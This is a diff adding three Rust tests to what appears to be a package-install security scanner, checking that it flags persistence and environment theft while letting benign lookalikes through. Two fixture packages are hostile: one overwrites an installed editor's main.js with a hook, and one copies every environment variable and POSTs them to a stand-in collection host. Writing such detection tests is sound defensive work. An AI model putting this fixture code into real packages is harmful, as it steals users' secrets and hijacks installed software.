@@ -1923,3 +1923,92 @@ fn certificate_checks_off_and_a_raw_ip_at_install_quarantine() {
         );
     }
 }
+
+/// A package that overwrites an installed application's code (an IDE's extension,
+/// a wallet app's bundle) makes that program run its code; reading where an
+/// installed browser lives is how launchers find it.
+#[test]
+fn patching_an_installed_application_is_stopped_and_finding_one_is_not() {
+    let patcher = airlock_test::PackageBuilder::new("ide-helper", "2.6.0")
+        .file(
+            "index.js",
+            "const fs = require('fs');\nconst target = '/Applications/Editor.app/Contents/Resources/app/out/main.js';\nfs.copyFileSync(target, target + '.bak');\nfs.writeFileSync(target, 'require(\"./hook\")');\n",
+        )
+        .build();
+    let analysis = analyse(&patcher);
+    assert_rule(&analysis, "persistence");
+    assert!(
+        matches!(
+            verdict(&analysis, &patcher),
+            Verdict::Quarantine { .. } | Verdict::Block
+        ),
+        "{}",
+        report(&analysis)
+    );
+
+    let launcher = airlock_test::PackageBuilder::new("browser-finder", "1.0.0")
+        .file(
+            "index.js",
+            "const fs = require('fs');\nconst chrome = '/Applications/Browser.app/Contents/MacOS/Browser';\nmodule.exports = () => (fs.existsSync(chrome) ? chrome : null);\n",
+        )
+        .build();
+    let analysis = analyse(&launcher);
+    assert_eq!(
+        verdict(&analysis, &launcher),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// `process.env[name]` in a helper called by name reads the one variable its caller
+/// names, even in a file that walks the environment elsewhere; the same read in a
+/// callback over the environment's keys copies all of it.
+#[test]
+fn an_env_helper_reads_one_variable_and_a_walk_reads_them_all() {
+    let helper = airlock_test::PackageBuilder::new("release-fetcher", "4.1.0")
+        .file(
+            "index.js",
+            "function getenv(name) { return process.env[name]; }\nconst prefixed = Object.keys(process.env).filter((k) => k.startsWith('APP_'));\nconst base = getenv('RELEASES_URL') || 'https://releases.example.invalid';\nfetch(base + '/latest', { headers: { 'x-flags': String(prefixed.length) } });\n",
+        )
+        .build();
+    let analysis = analyse(&helper);
+    assert_eq!(
+        verdict(&analysis, &helper),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
+
+    let walker = airlock_test::PackageBuilder::new("env-sync", "1.0.0")
+        .file(
+            "index.js",
+            "const out = {};\nObject.keys(process.env).forEach((k) => { out[k] = process.env[k]; });\nfetch('https://collect.example.invalid/e', { method: 'POST', body: JSON.stringify(out) });\n",
+        )
+        .build();
+    let analysis = check_blocked(&walker, &[Code::DataExfiltration]);
+    assert_rule(&analysis, "exfil-environment");
+}
+
+/// A WebAssembly module written in base64 is compiled by the WebAssembly API, not
+/// decoded to be run: a lexer that loads one and unescapes string literals with an
+/// indirect `eval` is not a decode-and-run.
+#[test]
+fn a_base64_webassembly_module_is_not_code_decoded_to_run() {
+    let wasm = format!("AGFzbQEAAAAB{}", "KwhgAX8Bf2AEf39/fwBgAAF/YAA".repeat(8));
+    let lexer = airlock_test::PackageBuilder::new("module-lexer", "2.3.2")
+        .file(
+            "index.js",
+            format!(
+                "let E;\nconst bytes = () => {{ const A = '{wasm}'; return Buffer.from(A, 'base64'); }};\nfunction init() {{ E = new WebAssembly.Instance(new WebAssembly.Module(bytes())).exports; }}\nfunction unescape(A) {{ try {{ return (0, eval)(A); }} catch (e) {{}} }}\nexport function parse(source) {{ init(); const n = E.parse(source); return unescape(source.slice(E.ss(n), E.se(n))); }}\n"
+            ),
+        )
+        .build();
+    let analysis = analyse(&lexer);
+    assert_eq!(
+        verdict(&analysis, &lexer),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
+}
